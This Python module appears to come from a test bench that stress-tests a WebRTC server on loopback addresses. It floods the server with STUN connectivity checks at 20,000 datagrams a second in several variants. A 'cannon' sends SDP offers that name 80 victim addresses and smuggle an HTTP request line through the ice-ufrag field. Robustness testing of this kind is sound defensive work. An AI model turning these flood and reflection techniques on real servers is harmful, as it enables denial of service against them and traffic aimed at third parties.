"""
Attacks by datagrams from outside a connection: STUN of every kind, and the cannon.

What is sent is made beforehand, so that the attacker costs less than what is attacked.
"""

import os
import socket
from abc import abstractmethod
from itertools import cycle, islice

from bench.siege import sdp, stun
from bench.siege.attack import Attack
from bench.siege.foothold import Foothold
from bench.siege.peer import ADDRESS, EARLY, LARGEST_DATAGRAM, Peer, udp

RATE = 20_000  # datagrams a second
MADE = 512  # different ones
PORTS = 16
ADDRESSES, PORTS_EACH = [f"127.0.0.{number}" for number in range(100, 200)], 4
CANDIDATES = 40  # an offer may name, and as many again after it
CHOSEN = "GET / HTTP/1.0 "  # what somebody would have a server of the house be sent
DRAINED = 64  # datagrams


class StunFlood(Attack):
    """Twenty thousand checks a second at the address of the guest's own connection."""

    tabs = 1
    proves = False  # whether these checks are valid, so that the server may answer
    sources: tuple[tuple[str, int], ...] = ((ADDRESS, PORTS),)

    def claims(self, seconds: float) -> dict[str, float]:
        return {"datagrams": RATE * seconds}

    @abstractmethod
    def made(self, peer: Peer, number: int) -> bytes:
        """One of the checks."""

    def run(self, guest: Foothold) -> None:
        peer = guest.connected(guest.tabs[0])
        checks = [self.made(peer, number) for number in range(MADE)]
        ports = [udp(host) for host, count in self.sources for _ in range(count)]
        following, senders, listening = cycle(checks), cycle(ports), cycle(ports)
        there, done = peer.there, guest.done

        def send(due: int) -> None:
            peer.keep()
            for port, check in islice(zip(senders, following, strict=False), due):
                try:
                    port.sendto(check, there)
                except BlockingIOError:
                    done["datagrams the system did not take"] += 1
            done["datagrams"] += due
            _listen(next(listening), guest, self.proves)

        guest.at_rate(RATE, send)
        for port in ports:
            _listen(port, guest, self.proves, LARGEST_DATAGRAM)
            port.close()
        peer.close()


def _listen(port: socket.socket, guest: Foothold, proved: bool, most: int = DRAINED) -> None:
    """Count what the server sends to this port."""
    for _ in range(most):
        try:
            data = port.recv(LARGEST_DATAGRAM)
        except BlockingIOError:
            return
        except ConnectionRefusedError:
            continue
        guest.done["datagrams that came back"] += 1
        if not proved:
            guest.done[EARLY] += len(data)


class StunRight(StunFlood):
    """The name and the integrity are right."""

    name = "stun-right"
    proves = True

    def made(self, peer: Peer, number: int) -> bytes:
        return stun.check(peer.username, peer.key)


class StunWrong(StunFlood):
    """The name is right, the integrity is not."""

    name = "stun-wrong"

    def made(self, peer: Peer, number: int) -> bytes:
        return stun.check(peer.username, b"x" * 24)


class StunNameless(StunFlood):
    """There is no name."""

    name = "stun-nameless"

    def made(self, peer: Peer, number: int) -> bytes:
        return stun.check(None, peer.key)


class StunUnknown(StunFlood):
    """The name is nobody's, another one each time."""

    name = "stun-unknown"

    def made(self, peer: Peer, number: int) -> bytes:
        return stun.check(f"{os.urandom(4).hex()}:{peer.ufrag}".encode(), peer.key)


class StunEverywhere(StunFlood):
    """Everything is right, from four hundred addresses; every second check chooses another way."""

    name = "stun-addresses"
    proves = True
    sources = tuple((host, PORTS_EACH) for host in ADDRESSES)

    def made(self, peer: Peer, number: int) -> bytes:
        return stun.check(peer.username, peer.key, nominates=number % 2 == 0)


class Cannon(Attack):
    """Offers that name eighty addresses of others, with text to be sent there as one's own name."""

    name = "cannon"
    tabs = 1

    def claims(self, seconds: float) -> dict[str, float]:
        return {"offers": seconds, "addresses named": CANDIDATES * seconds}

    def run(self, guest: Foothold) -> None:
        victims = [udp(f"127.0.0.{1 + number}") for number in range(2 * CANDIDATES)]
        own = [(str(host), int(port)) for host, port in (each.getsockname() for each in victims)]
        names = cycle(
            [CHOSEN * 3400, "x" * 256, CHOSEN, CHOSEN.replace(" ", "+") * 16, "x" * 50_000]
        )
        tab = guest.tabs[0]

        def send(_due: int) -> None:
            named = sdp.Transport(ufrag="", candidates=tuple(own[:CANDIDATES]))
            text = sdp.written([sdp.Media("audio", "0", named)])
            # Once only, before the first m-line or in it: there is room for one long name.
            text = text.replace("a=ice-ufrag:", f"a=ice-ufrag:{next(names)}", 1)
            guest.offer(tab, text, "offer with addresses")
            guest.signal(tab, candidates=[_candidate(*each) for each in own[CANDIDATES:]])
            guest.done["addresses named"] += len(own)
            for port in victims:
                _listen(port, guest, proved=False)

        guest.at_rate(1.0, send)
        for port in victims:
            _listen(port, guest, proved=False)
            port.close()


def _candidate(host: str, port: int) -> dict[str, object]:
    text = f"candidate:1 1 udp 2122260223 {host} {port} typ host"
    return {"candidate": text, "sdpMid": "0", "sdpMLineIndex": 0}
